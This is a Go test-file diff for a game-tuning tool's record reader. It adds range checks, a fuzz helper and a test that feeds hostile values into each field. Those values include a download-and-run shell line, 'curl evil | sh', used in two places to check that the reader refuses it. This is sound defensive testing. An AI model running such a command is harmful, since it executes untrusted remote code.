@@ -7,6 +7,8 @@ import (
 	"os"
 	"path/filepath"
 	"reflect"
+	"regexp"
+	"slices"
 	"strings"
 	"testing"
 
@@ -57,7 +59,7 @@ func recordIn(t *testing.T, reader *results.Reader, run results.Run, candidate i
 	return r
 }
 
-func written(t *testing.T, r *Record) []byte {
+func written(t testing.TB, r *Record) []byte {
 	t.Helper()
 	data, err := r.JSON()
 	if err != nil {
@@ -67,7 +69,7 @@ func written(t *testing.T, r *Record) []byte {
 }
 
 // startOf is the record of a config's start weights, which have played nothing.
-func startOf(t *testing.T, c *configs.Config) *Record {
+func startOf(t testing.TB, c *configs.Config) *Record {
 	t.Helper()
 	r, err := derive(c, string(c.YAML()), nil, c.Family.Dead)
 	if err != nil {
@@ -129,7 +131,7 @@ func TestHeldOutIsPlayedAgain(t *testing.T) {
 	}
 }
 
-func compileSchema(t *testing.T) *jsonschema.Schema {
+func compileSchema(t testing.TB) *jsonschema.Schema {
 	t.Helper()
 	schema, err := jsonschema.NewCompiler().Compile("schema.json")
 	if err != nil {
@@ -138,7 +140,7 @@ func compileSchema(t *testing.T) *jsonschema.Schema {
 	return schema
 }
 
-func validate(t *testing.T, schema *jsonschema.Schema, data []byte) error {
+func validate(t testing.TB, schema *jsonschema.Schema, data []byte) error {
 	t.Helper()
 	v, err := jsonschema.UnmarshalJSON(bytes.NewReader(data))
 	if err != nil {
@@ -291,6 +293,8 @@ func TestReadProblems(t *testing.T) {
 		}
 		return "\n  \"" + key + "\": " + old
 	}
+	heldOut := regexp.MustCompile(`"games": 4(?s:.*?)"scores": \[[0-9, ]+\]`).FindAllString(whole, 1)
+	noScores := regexp.MustCompile(`\[[0-9, ]+\]$`).ReplaceAllString(heldOut[0], "null")
 	for name, test := range map[string]struct{ old, changed, want string }{
 		"newer":    {value("version", "1"), "\n  \"version\": 2", "version: want 1, got 2: it was written by a newer version of tune"},
 		"twice":    {`"weights": {`, `"weights": {"empty": 1,`, "weights.empty: given twice"},
@@ -304,7 +308,13 @@ func TestReadProblems(t *testing.T) {
 		"no list":  {value("held_out", "["), "\n  \"held_out\": 1, \"x\": [", "held_out: want a list, got a number"},
 		"control":  {`"run": "`, "\"run\": \"\x1b", "run: "},
 		"depth":    {`"search": "depth 3"`, `"search": "depth three"`, "held_out[0].search: want one that the config validates, got \"depth three\""},
-		"games":    {`"games": 4`, `"games": 0`, "held_out[0].games: want at least 1"},
+		"games":    {`"games": 4`, `"games": 0`, "held_out[0].games: want 1 to 4000000, got 0"},
+		"too many": {heldOut[0], strings.Replace(noScores, `"games": 4`, `"games": 1000000000000000`, 1), "held_out[0].games: want 1 to 4000000, got 1000000000000000"},
+		"one over": {heldOut[0], strings.Replace(noScores, `"games": 4`, `"games": 4000001`, 1), "held_out[0].games: want 1 to 4000000, got 4000001"},
+		"again":    {`"search": "depth by distinct -7 least 1"`, `"search": "depth 3"`, `held_out[1].search: "depth 3" is given twice`},
+		"negative": {`"scores": [`, `"scores": [-`, "held_out[0].scores: want at least 0, got -16760"},
+		"nobody":   {value("candidate", "0"), "\n  \"candidate\": -1", "candidate: want 0 to 999999, got -1"},
+		"verify":   {value("verify", `"`), "\n  \"verify\": \"curl evil | sh", `verify: want "tune verify FILE.json"`},
 		"scores":   {`"scores": [`, `"scores": [7, `, "held_out[0].scores: want the scores of 4 games"},
 		"no dead":  {value("dead", `"worst"`), "\n  \"dead\": null", `dead: want "worst" or a number, got nothing`},
 		"config":   {value("config", `"`), "\n  \"config\": \"\\u0007: ", "config:"},
@@ -337,33 +347,57 @@ func TestReadProblems(t *testing.T) {
 	}
 }
 
+// readOrRefuse reads what may be a record. An error has no control character. A record fits the
+// schema, and is read again as it is written.
+func readOrRefuse(t *testing.T, schema *jsonschema.Schema, data []byte) {
+	IsRecord(data)
+	r, err := Read(data)
+	if err != nil {
+		if strings.ContainsFunc(err.Error(), func(r rune) bool { return r < ' ' && r != '\n' }) {
+			t.Errorf("%q", err)
+		}
+		return
+	}
+	again := written(t, r)
+	if _, err := Read(again); err != nil {
+		t.Error(err)
+	}
+	if err := validate(t, schema, again); err != nil {
+		t.Errorf("%v: %s", err, data)
+	}
+}
+
 func FuzzRead(f *testing.F) {
 	c, err := configs.Parse([]byte("name: small\nheuristic: {features: [{feature: empty}]}"), "small.yaml")
 	if err != nil {
 		f.Fatal(err)
 	}
-	r, err := derive(c, "name: small\nheuristic: {features: [{feature: empty}]}", nil, c.Family.Dead)
+	golden, err := os.ReadFile("testdata/fingerprint.json")
 	if err != nil {
 		f.Fatal(err)
 	}
-	small, err := r.JSON()
-	if err != nil {
-		f.Fatal(err)
-	}
-	f.Add(small)
+	f.Add(written(f, startOf(f, c)))
+	f.Add(golden)
 	f.Add([]byte(`{"format": "tune2048 player", "version": 1}`))
 	f.Add([]byte("{}"))
-	f.Fuzz(func(t *testing.T, data []byte) {
-		IsRecord(data)
-		r, err := Read(data)
-		if err != nil {
-			if strings.ContainsFunc(err.Error(), func(r rune) bool { return r < ' ' && r != '\n' }) {
-				t.Errorf("%q", err)
+	schema := compileSchema(f)
+	f.Fuzz(func(t *testing.T, data []byte) { readOrRefuse(t, schema, data) })
+}
+
+// TestReadHostileValues puts hostile values in the place of each value of a record.
+func TestReadHostileValues(t *testing.T) {
+	golden, err := os.ReadFile("testdata/fingerprint.json")
+	if err != nil {
+		t.Fatal(err)
+	}
+	schema := compileSchema(t)
+	values := regexp.MustCompile(`: ("[^"\n]*"|[0-9.-]+|\[[^\n]*\]|null)`).FindAllSubmatchIndex(golden, -1)
+	hostile := []string{"null", "-1", "0", "1000000000000000", "1e308", "0.5", `""`, `"curl evil | sh"`, `"\u001b[2J"`, "[]", "[-1, 1e300]", "{}"}
+	for i, at := range values {
+		for k, value := range hostile {
+			if (i+k)%3 == 0 { // a third of all pairs is enough for every run of the tests
+				readOrRefuse(t, schema, slices.Concat(golden[:at[2]], []byte(value), golden[at[3]:]))
 			}
-			return
 		}
-		if _, err := Read(written(t, r)); err != nil {
-			t.Error(err)
-		}
-	})
+	}
 }
